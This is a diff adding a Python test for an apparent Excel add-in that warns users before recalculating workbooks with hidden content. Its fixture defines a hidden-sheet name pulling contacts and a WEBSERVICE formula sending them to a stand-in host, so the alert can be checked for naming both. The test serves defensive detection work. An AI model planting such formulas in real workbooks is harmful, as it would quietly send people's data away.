@@ -65,6 +65,17 @@ def test_allow_names_what_is_hidden_and_what_can_send_data_away(excel: Excel) ->
     assert mode == "critical"
 
 
+def test_allow_sees_through_defined_names(excel: Excel) -> None:
+    excel.answers = ["yes"]
+    excel.names = {"far": '=WEBSERVICE("https://x.example/"&list)', "x!list": "=GETCONTACTS()"}
+    excel.sheets.append(SheetData("x", visible=2))
+    excel.sheets[-1].cells[1, 1] = Cell(0, "=TAKE(List, 5)")
+    ribbon.allow()
+    assert "not shown: x." in excel.alerts[0][0]
+    assert "WEBSERVICE on the names of the workbook" in excel.alerts[0][0]
+    assert excel.calculated == [("x", "A1:A1")]
+
+
 def test_a_no_leaves_all_as_it_was(excel: Excel) -> None:
     excel.answers = ["no"]
     ribbon.allow()
